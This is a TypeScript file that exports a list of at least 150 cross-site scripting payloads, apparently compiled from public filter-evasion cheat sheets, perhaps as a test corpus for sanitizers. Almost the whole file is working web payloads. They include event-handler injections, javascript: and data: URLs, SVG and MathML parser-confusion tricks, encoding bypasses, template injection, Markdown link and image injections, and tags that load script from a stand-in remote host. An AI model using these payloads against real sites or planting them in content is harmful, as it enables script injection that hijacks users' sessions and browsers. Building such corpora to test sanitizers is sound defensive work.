// Published ways to run script through text, after the XSS Filter Evasion Cheat Sheet of OWASP, the cross-site scripting cheat sheet of
// PortSwigger and the HTML5 Security Cheatsheet: the tricks are theirs, the wording and the call are ours. `CALL` is what would run.
const CALL = 'alert(1)';

const HANDLERS = [
  ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['body', 'onresize'], ['body', 'onbeforeprint'], ['body', 'onmessage'], ['img src=x', 'onerror'], ['image src=x', 'onerror'], ['video src=x', 'onerror'], ['video', 'onloadstart'],
  ['audio src=x', 'onerror'], ['source src=x', 'onerror'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus tabindex=1', 'onfocus'], ['details open', 'ontoggle'],
  ['marquee', 'onstart'], ['marquee loop=1 width=0', 'onfinish'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['iframe', 'onload'], ['frameset', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'], ['style', 'onload'], ['isindex type=image src=1', 'onerror'],
  ['div style="animation-name:x"', 'onanimationstart'], ['div style="transition:color 1s"', 'ontransitionend'], ['div contenteditable autofocus', 'onfocusin'], ['div', 'onpointerover'], ['div', 'onmouseover'], ['div', 'onwheel'], ['div', 'ondrag'], ['div', 'oncopy'], ['div', 'oncontextmenu'], ['form', 'onsubmit'],
  ['xss autofocus tabindex=1', 'onfocus'], ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onend'], ['svg><a xlink:href=x', 'onclick'], ['math', 'onclick'], ['table background=x', 'onload'], ['dialog open', 'onclose'], ['slot', 'onslotchange'], ['popover', 'onbeforetoggle'], ['track src=x', 'onerror'],
] as const;

const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `&#x6A;avascript:${CALL}`, `&#0000106avascript:${CALL}`, `javascript://%0a${CALL}`,
  `vbscript:${CALL}`, `data:text/html,<script>${CALL}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `//exemple.test/x.js`, `jav&#x09;ascript:${CALL}`, `jav&#x0A;ascript:${CALL}`, `javascript:/*--></title></style></script>*/${CALL}`,
];

const PLAIN = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script >${CALL}</script >`, `<script/x>${CALL}</script>`, `<script>/*x*/${CALL}//</script>`, `<<script>${CALL};//<</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script src=//exemple.test/x.js></script>`,
  `<script src=data:text/javascript,${CALL}></script>`, `<script type=module>${CALL}</script>`, `<svg><script>${CALL}</script></svg>`, `<svg><script href=data:,${CALL} />`, `<svg><script>&#97;lert(1)</script></svg>`, `</script><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `"><img src=x onerror=${CALL}>`, `' onmouseover=${CALL} x='`, `" onfocus=${CALL} autofocus x="`, `\` onerror=${CALL} \``, `<img src="x\`\`onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`, `<img\nsrc=x\nonerror=${CALL}>`, `<img\tsrc=x\tonerror=${CALL}>`, `<img src=x onerror="&#97;lert(1)">`, `<img src=x onerror=\\u0061lert(1)>`, `<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>`, `<img """><script>${CALL}</script>">`, `<img src=# onerror\u0001=${CALL}>`, `<img src=x onerror=${CALL}//`,
  `<img srcset=x onerror=${CALL}>`, `<svg/onload=${CALL}>`, `<svg onload=${CALL}//`, `<svg><animate href=#x attributeName=href values=javascript:${CALL} /><a id=x><text y=20>x`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`, `<math><mtext></p><script>${CALL}</script>`, `<math href="javascript:${CALL}">x</math>`, `<math><mi><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<style><img src="</style><img src=x onerror=${CALL}>">`, `<style>@import'javascript:${CALL}';</style>`, `<div style="background:url(javascript:${CALL})">`,
  `<div style="width:expression(${CALL})">`, `<div style="-moz-binding:url(//exemple.test/x.xml)">`, `<link rel=stylesheet href=javascript:${CALL}>`, `<link rel=import href=data:text/html,<script>${CALL}</script>>`, `<base href=javascript:${CALL}//>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta charset=utf-7>+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `<iframe src=javascript:${CALL}></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<object data=javascript:${CALL}>`, `<object data=data:text/html,<script>${CALL}</script>>`, `<embed src=javascript:${CALL}>`, `<embed code=javascript:${CALL}>`,
  `<form action=javascript:${CALL}><input type=submit>`, `<form><button formaction=javascript:${CALL}>x`, `<input type=image src=x formaction=javascript:${CALL}>`, `<isindex action=javascript:${CALL} type=image>`, `<a href=javascript:${CALL}>x</a>`, `<a href="data:text/html,<script>${CALL}</script>">x</a>`, `<area href=javascript:${CALL} shape=default>`,
  `<table background=javascript:${CALL}>`, `<td background="javascript:${CALL}">`, `<body background=javascript:${CALL}>`, `<bgsound src=javascript:${CALL}>`, `<layer src=//exemple.test/x.js></layer>`, `<template><img src=x onerror=${CALL}></template>`, `<xml id=x><i><img src=x onerror=${CALL}></i></xml>`, `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<!--><img src=x onerror=${CALL}>-->`, `<comment><img src="</comment><img src=x onerror=${CALL}>">`, `<?xml version="1.0"?><script>${CALL}</script>`, `<![CDATA[<script>${CALL}</script>]]>`, `<x onclick=${CALL}>x`, `<custom-element onclick=${CALL}>x`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `%3Cscript%3E${CALL}%3C/script%3E`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`, `\u{FF1C}script\u{FF1E}${CALL}\u{FF1C}/script\u{FF1E}`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `#{${CALL}}`, `javascript:${CALL}`, `<javascript:${CALL}>`, `';${CALL}//`, `";${CALL}//`, `\\";${CALL}//`, `*/${CALL}/*`, `\u2028${CALL}`,
  // Through Markdown.
  `![x](javascript:${CALL})`, `![x](x"onerror="${CALL})`, `[x](javascript:${CALL})`, `[x](JaVaScRiPt:${CALL})`, `[x](data:text/html,<script>${CALL}</script>)`, `[x](javascript&colon;${CALL})`, `[x](&#106;avascript:${CALL})`, `[x](<javascript:${CALL}>)`, `[x](https://exemple.test"onmouseover="${CALL})`,
  `[x](https://exemple.test 'x" onmouseover="${CALL}')`, `<https://exemple.test/"onclick="${CALL}>`, `[x]: javascript:${CALL}`, `\`<img src=x onerror=${CALL}>\``, `~~~"><img src=x onerror=${CALL}>`, `> <img src=x onerror=${CALL}>`, `- <svg onload=${CALL}>`, `| <svg onload=${CALL}> |`, `@"><svg onload=${CALL}>`, `[<img src=x onerror=${CALL}>](https://exemple.test)`,
  `[a]( javascript:${CALL} "x")`, `![<svg onload=${CALL}>](x)`, `https://exemple.test/<script>${CALL}</script>`, `https://exemple.test/" onmouseover="${CALL}`, `mailto:"onclick="${CALL}`,
];

/** Each of them in words; at least 150. */
export const VECTORS: readonly string[] = [...PLAIN, ...HANDLERS.map(([tag, handler]) => `<${tag} ${handler}=${CALL}>`), ...ADDRESSES.map((address) => `<a href="${address}">x</a>`)];
